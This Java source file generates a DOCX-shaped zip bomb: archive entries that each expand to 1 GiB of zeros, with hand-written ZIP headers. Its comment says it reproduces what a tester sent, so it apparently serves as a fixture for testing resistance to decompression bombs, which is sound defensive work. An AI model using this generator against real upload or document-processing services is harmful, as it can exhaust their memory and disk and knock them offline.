package dk.tvaers.shared;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * A DOCX-shaped zip bomb as the tester sent it: entries of 1 GiB of zeros each (deflated to about 1 MB), with
 * {@code word/document.xml} last. Built without ever holding or deflating a gibibyte: one MiB of zeros is deflated
 * once into a byte-aligned, non-final block, and an entry's data is that block 1024 times plus an empty final block
 * (a valid deflate stream of 1 GiB of zeros); the archive's headers are written by hand.
 */
public final class ZipBomb {

    private static final int MIB = 1 << 20;

    private ZipBomb() {}

    public static byte[] docx(int gibibyteEntries) {
        byte[] chunk = deflatedMibOfZeros();
        byte[] end = {3, 0}; // an empty final block with fixed codes
        long size = 1L << 30;
        var crc = new CRC32();
        byte[] zeros = new byte[MIB];
        for (int i = 0; i < 1024; i++) {
            crc.update(zeros);
        }
        var out = new ByteArrayOutputStream();
        List<byte[]> central = new ArrayList<>();
        for (int e = 0; e < gibibyteEntries; e++) {
            String name = "word/media/nul" + e + ".bin";
            long compressed = (long) chunk.length * 1024 + end.length;
            int offset = out.size();
            out.writeBytes(localHeader(name, crc.getValue(), compressed, size));
            for (int i = 0; i < 1024; i++) {
                out.writeBytes(chunk);
            }
            out.writeBytes(end);
            central.add(centralHeader(name, crc.getValue(), compressed, size, offset));
        }
        byte[] document = "<w:document/>".getBytes(StandardCharsets.UTF_8);
        var documentCrc = new CRC32();
        documentCrc.update(document);
        int offset = out.size();
        out.writeBytes(storedLocalHeader("word/document.xml", documentCrc.getValue(), document.length));
        out.writeBytes(document);
        central.add(storedCentralHeader("word/document.xml", documentCrc.getValue(), document.length, offset));
        int directoryStart = out.size();
        central.forEach(out::writeBytes);
        int directorySize = out.size() - directoryStart;
        out.writeBytes(ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x06054b50).putShort((short) 0).putShort((short) 0)
                .putShort((short) central.size()).putShort((short) central.size())
                .putInt(directorySize).putInt(directoryStart).putShort((short) 0).array());
        return out.toByteArray();
    }

    private static byte[] deflatedMibOfZeros() {
        var deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(new byte[MIB]);
        var out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 * 1024];
        int n;
        while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.SYNC_FLUSH)) > 0) {
            out.write(buffer, 0, n);
            if (deflater.needsInput() && n < buffer.length) {
                break;
            }
        }
        deflater.end();
        return out.toByteArray();
    }

    private static byte[] localHeader(String name, long crc, long compressed, long size) {
        return header(0x04034b50, name, crc, compressed, size, 8, -1);
    }

    private static byte[] storedLocalHeader(String name, long crc, long size) {
        return header(0x04034b50, name, crc, size, size, 0, -1);
    }

    private static byte[] centralHeader(String name, long crc, long compressed, long size, int offset) {
        return header(0x02014b50, name, crc, compressed, size, 8, offset);
    }

    private static byte[] storedCentralHeader(String name, long crc, long size, int offset) {
        return header(0x02014b50, name, crc, size, size, 0, offset);
    }

    private static byte[] header(int signature, String name, long crc, long compressed, long size, int method,
            int offset) {
        byte[] bytes = name.getBytes(StandardCharsets.UTF_8);
        boolean central = offset >= 0;
        var header = ByteBuffer.allocate((central ? 46 : 30) + bytes.length).order(ByteOrder.LITTLE_ENDIAN);
        header.putInt(signature);
        if (central) {
            header.putShort((short) 20);
        }
        header.putShort((short) 20).putShort((short) 0).putShort((short) method)
                .putShort((short) 0).putShort((short) 0x21)
                .putInt((int) crc).putInt((int) compressed).putInt((int) size)
                .putShort((short) bytes.length).putShort((short) 0);
        if (central) {
            header.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(offset);
        }
        header.put(bytes);
        return header.array();
    }
}
